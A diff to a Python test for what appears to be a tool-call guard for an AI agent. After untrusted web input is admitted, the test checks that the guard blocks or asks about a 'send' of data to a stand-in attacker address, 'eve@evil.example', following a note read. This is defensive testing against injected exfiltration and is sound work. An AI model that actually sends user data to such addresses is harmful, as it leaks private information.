@@ -66,7 +66,7 @@ def test_a_preview_says_what_a_proposal_says() -> None:
     calls = [Call("read_note", {}, "a"), Call("send", {"to": "eve@evil.example", "body": "x"}, "b")]
     guard.admit("x", labels=["untrusted:web"], source="x")
     previewed = [guard.preview(calls[1], calls[0]), guard.preview(calls[1])]
-    assert [one.verdict for one in previewed] == [Verdict.DENY, Verdict.ALLOW]
+    assert [one.verdict for one in previewed] == [Verdict.DENY, Verdict.ASK]
     assert guard.propose(*calls).outcomes["b"].decision.reasons == previewed[0].reasons
 
 
